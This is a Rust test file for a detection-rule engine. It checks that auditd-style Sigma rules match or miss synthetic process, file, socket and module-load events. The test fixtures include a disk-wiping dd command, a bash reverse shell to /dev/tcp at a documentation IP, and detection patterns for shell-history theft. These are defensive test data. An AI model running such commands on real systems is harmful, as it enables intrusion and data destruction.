use datasets::{Common, ProcessEvent, SecurityEvent};

use super::*;
use crate::engines::rules::RuleEngine;
use crate::engines::rules_load::State;

fn common(kind: Kind) -> Common {
    Common { ts: 0, cpu: 0, seq: 0, kind, container: None, pid: 1, tid: 1, exec_id: None }
}

fn exec(exe: &str, argv: &[&str]) -> Event {
    Event::Process(ProcessEvent {
        exe: Some(exe.into()),
        argv: Some(argv.iter().map(|argument| Arc::from(*argument)).collect()),
        uid: Some(33),
        ..ProcessEvent::new(common(Kind::Exec))
    })
}

fn file(kind: Kind, path: &str, flags: u32, ret: i32) -> FileEvent {
    FileEvent { path: Some(path.into()), flags: Some(flags), ret, ..FileEvent::new(common(kind)) }
}

fn socket(family: &str) -> Event {
    Event::Network(NetworkEvent { ret: 3, ..NetworkEvent::new(common(Kind::Socket), family, "0") })
}

/// A rule in a folder of its own, loaded.
fn engine(source: &str, detection: &str) -> RuleEngine {
    let folder = tempfile::tempdir().unwrap();
    let text = format!(
        "title: Mine\nid: 11111111-2222-4333-8444-555555555555\nlogsource: {source}\ndetection: {detection}\nlevel: high\n"
    );
    std::fs::write(folder.path().join("mine.yml"), text).unwrap();
    RuleEngine::load(Some(folder.path())).unwrap()
}

fn state(engine: &RuleEngine) -> &State {
    &engine.listed().iter().find(|listed| listed.title == "Mine").unwrap().state
}

fn hits(engine: &RuleEngine, event: &Event) -> bool {
    let of = || engine.evaluate(&EventView::new(event)).iter().any(|hit| &*hit.title == "Mine");
    let first = of();
    assert_eq!(first, of(), "the remembered answer is the same");
    first
}

const AUDIT: &str = "{product: linux, service: auditd}";

#[test]
fn auditds_records_are_made_of_events() {
    let id = exec("/usr/bin/id", &["id", "-u"]);
    let wiped = exec("/bin/sh", &["sh", "-c", "dd if=/dev/zero of=/x"]);
    let made = Event::File(file(Kind::Open, "/etc/systemd/system/a.service", O_CREAT | 1, 3));
    let read = Event::File(file(Kind::Open, "/etc/systemd/system/a.service", 0, 3));
    let failed = Event::File(file(Kind::Open, "/etc/systemd/system/a.service", O_CREAT | 1, -13));
    let renamed =
        Event::File(FileEvent { new_path: Some("/etc/ld.so.preload".into()), ..file(Kind::Rename, "/tmp/a", 0, 0) });
    let module = Event::Security(SecurityEvent { euid: Some(0), ..SecurityEvent::new(common(Kind::ModuleLoad), 0) });
    let node = Event::File(file(Kind::Mknod, "/dev/x", 0, 0));
    for (detection, hit, missed) in [
        ("{a: {type: EXECVE, a0: id}, condition: a}", &id, &wiped),
        ("{a: {type: execve, a1: '-u'}, condition: a}", &id, &wiped),
        ("{a: {a7|startswith: x}, b: {a2|contains: dd}, condition: a or b}", &wiped, &id),
        ("{a: {type: EXECVE}, b: ['dd if='], condition: a and b}", &wiped, &id),
        ("{a: {type: EXECVE}, b: {'|all': ['sh -c', of=]}, condition: a and b}", &wiped, &id),
        ("{a: {type: SYSCALL, exe|endswith: /id, euid: 33}, condition: a}", &id, &wiped),
        ("{a: {type: SYSCALL, SYSCALL: [execve, execveat]}, condition: a}", &id, &node),
        ("{a: {type: SYSCALL, SYSCALL: mknod}, condition: a}", &node, &made),
        ("{a: {type: SYSCALL, syscall: finit_module, success: 'yes'}, condition: a}", &module, &id),
        ("{a: {type: SYSCALL, SYSCALL: socket, a0: 26}, condition: a}", &socket("38"), &socket("inet")),
        ("{a: {type: SYSCALL, SYSCALL: socket, a0: a}, condition: a}", &socket("inet6"), &socket("unix")),
        ("{a: {type: PATH, nametype: CREATE, name|startswith: /etc/systemd/}, condition: a}", &made, &read),
        ("{a: {type: PATH, name: /etc/systemd/*}, condition: a}", &read, &failed),
        ("{a: {type: PATH, name: /etc/ld.so.preload, nametype: CREATE}, condition: a}", &renamed, &made),
        ("{a: {type: PATH, name: /tmp/a, nametype: DELETE}, condition: a}", &renamed, &made),
        ("{a: {type: PATH, name: /usr/bin/id}, condition: a}", &id, &wiped),
    ] {
        let engine = engine(AUDIT, detection);
        assert_eq!(state(&engine), &State::Loaded, "{detection}");
        assert!(hits(&engine, hit), "{detection}");
        assert!(!hits(&engine, missed), "{detection}");
    }
}

#[test]
fn what_auditd_alone_knows_is_listed() {
    let lacking = |names: &[&str]| names.iter().map(ToString::to_string).collect::<Vec<_>>();
    let skipped = |what: &str| State::Skipped { reason: format!("it always asks for {what}, which no event has") };
    for (detection, expected) in [
        ("{a: {type: SERVICE_STOP, unit: ufw}, condition: a}", skipped("type SERVICE_STOP, unit")),
        ("{a: {type: SYSCALL, exe: /nc, key: k}, condition: a}", skipped("key")),
        ("{a: {type: SYSCALL, SYSCALL: sysinfo}, condition: a}", skipped("SYSCALL sysinfo")),
        (
            "{a_1: {type: SYSCALL, exe: /x}, a_2: {type: ADD_USER}, condition: 1 of a_*}",
            State::Partly { unmapped: lacking(&["type ADD_USER"]), note: None },
        ),
    ] {
        assert_eq!(state(&engine(AUDIT, detection)), &expected, "{detection}");
    }
}

#[test]
fn words_of_any_log_are_looked_for_in_command_lines() {
    let any = engine("{product: linux}", "{a: ['/dev/tcp/', 'cat *sh_history'], condition: a}");
    assert_eq!(state(&any), &State::Partly { unmapped: Vec::new(), note: Some(COMMAND_LINES) });
    assert!(hits(&any, &exec("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/1"])));
    assert!(!hits(&any, &exec("/bin/bash", &["bash", "-c", "true"])));
    assert!(!hits(&any, &Event::File(file(Kind::Open, "/dev/tcp/x", 0, 3))), "a path is no line of a log");
    let State::Skipped { reason } = state(&engine("{product: linux, service: sshd}", "{a: [x], condition: a}")).clone()
    else {
        panic!("sshd's log is not here")
    };
    assert_eq!(reason, "no events of service sshd");
}
